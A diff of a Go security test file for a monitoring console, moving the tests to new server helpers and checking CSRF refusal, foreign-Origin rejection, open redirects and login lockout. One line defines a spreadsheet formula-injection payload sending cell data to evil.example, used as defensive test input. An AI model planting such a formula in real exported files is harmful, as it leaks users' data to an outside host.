@@ -11,16 +11,18 @@ import (
 	"testing"
 	"time"
 
-	"github.com/vigilarc/vigil/appliance"
 	"github.com/vigilarc/vigil/appliance/monitoring"
+	"github.com/vigilarc/vigil/appliance/monitoring/monitoringtest"
 	"github.com/vigilarc/vigil/ui/auth"
 	"github.com/vigilarc/vigil/ui/console"
+	"github.com/vigilarc/vigil/ui/uitest"
 )
 
-// mustSecurityEnv is one node with the seed, an open alarm of the hostile
-// worker Eve and one of Amira, and Olivia signed in over plain HTTP.
+// securityEnv is one node's console and API (uitest) with the seed, an
+// open alarm of the hostile worker Eve and one of Amira, and Olivia, Sam
+// and Ada signed in over plain HTTP.
 type securityEnv struct {
-	node       *appliance.Node
+	srv        *uitest.Server
 	svc        *monitoring.Service
 	olivia     *httpSession // operator
 	sam        *httpSession // supervisor
@@ -38,9 +40,9 @@ const hostileCSV = `=HYPERLINK("https://evil.example/?"&A1,"click")`
 
 func mustSecurityEnv(t *testing.T) *securityEnv {
 	t.Helper()
-	n := mustNodes(t, 1)[0]
-	svc := n.Service()
-	e := &securityEnv{node: n, svc: svc, fixture: mustSeed(t, svc)}
+	srv := uitest.MustServe(t, monitoringtest.MustService(t, monitoringtest.Options{}), uitest.Options{})
+	svc := srv.Node.Service
+	e := &securityEnv{srv: srv, svc: svc, fixture: mustSeed(t, svc)}
 	ctx := context.Background()
 	a, err := svc.RaiseAlarm(ctx, "sec-eve", "device:d-eve", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmRedAlert, DeviceID: "d-eve",
 		Location: &monitoring.Location{Lat: 53.48, Lon: -2.29, Accuracy: 30, Source: "wifi"}})
@@ -90,7 +92,7 @@ func mustSecurityEnv(t *testing.T) *securityEnv {
 		sess           **httpSession
 		user, password string
 	}{{&e.olivia, "olivia", oliviaPassword}, {&e.sam, "sam", samPassword}, {&e.ada, "ada", adaPassword}} {
-		*s.sess = newHTTPSession(t, baseURL(n))
+		*s.sess = newHTTPSession(t, srv.URL)
 		if code := (*s.sess).signIn(s.user, s.password); code != http.StatusOK {
 			t.Fatalf("sign in %s: %d", s.user, code)
 		}
@@ -240,14 +242,14 @@ func TestSecurity_CrossSitePostsRefused(t *testing.T) {
 		t.Errorf("refused cross-site posts changed the directory:\nbefore %s\nafter  %s", before, after)
 	}
 	// A hand-over from a site that is no console of the cluster.
-	resp, body = newHTTPSession(t, baseURL(e.node)).do(http.MethodPost, "/ui/resume", url.Values{"ticket": {"x"}},
+	resp, body = newHTTPSession(t, e.srv.URL).do(http.MethodPost, "/ui/resume", url.Values{"ticket": {"x"}},
 		map[string]string{"Origin": "https://evil.example"})
 	if resp.StatusCode != http.StatusForbidden {
 		t.Errorf("a hand-over from evil.example: %d %s", resp.StatusCode, body)
 	}
 
 	// Sign-in itself: a foreign Origin, or no login token, is refused.
-	s := newHTTPSession(t, baseURL(e.node))
+	s := newHTTPSession(t, e.srv.URL)
 	_, page := s.do(http.MethodGet, "/ui/login", nil, nil)
 	tok := csrfInputRE.FindStringSubmatch(page)[1]
 	form := url.Values{"user": {"olivia"}, "password": {oliviaPassword}, "csrf": {tok}}
@@ -262,7 +264,7 @@ func TestSecurity_CrossSitePostsRefused(t *testing.T) {
 
 // otherCSRF signs Sam in and returns his page's CSRF token.
 func otherCSRF(t *testing.T, e *securityEnv) string {
-	s := newHTTPSession(t, baseURL(e.node))
+	s := newHTTPSession(t, e.srv.URL)
 	if code := s.signIn("sam", samPassword); code != http.StatusOK {
 		t.Fatalf("sam: %d", code)
 	}
@@ -373,7 +375,7 @@ func routePath(e *securityEnv, route string) (method, path string) {
 
 func TestSecurity_EveryRouteRefusesAnonymousCallers(t *testing.T) {
 	e := mustSecurityEnv(t)
-	anon := newHTTPSession(t, baseURL(e.node))
+	anon := newHTTPSession(t, e.srv.URL)
 	routes := consoleRoutes
 	// Every route the console mounts is in the list, so that a new one
 	// cannot be forgotten here.
@@ -545,7 +547,7 @@ func mountedRoutes(t *testing.T) []string {
 
 func TestSecurity_SessionCookieAndSignOut(t *testing.T) {
 	e := mustSecurityEnv(t)
-	s := newHTTPSession(t, baseURL(e.node))
+	s := newHTTPSession(t, e.srv.URL)
 	_, page := s.do(http.MethodGet, "/ui/login", nil, nil)
 	tok := csrfInputRE.FindStringSubmatch(page)[1]
 	resp, _ := s.do(http.MethodPost, "/ui/login", url.Values{"user": {"olivia"}, "password": {oliviaPassword}, "csrf": {tok}, "next": {"https://evil.example/"}}, nil)
@@ -578,7 +580,7 @@ func TestSecurity_SessionCookieAndSignOut(t *testing.T) {
 
 func TestSecurity_LockoutAndRateLimit(t *testing.T) {
 	e := mustSecurityEnv(t)
-	s := newHTTPSession(t, baseURL(e.node))
+	s := newHTTPSession(t, e.srv.URL)
 	for i := range monitoring.MaxFailedLogins - 1 {
 		if code := s.signIn("sam", "not the password"); code != http.StatusUnauthorized {
 			t.Fatalf("wrong password %d: %d", i+1, code)
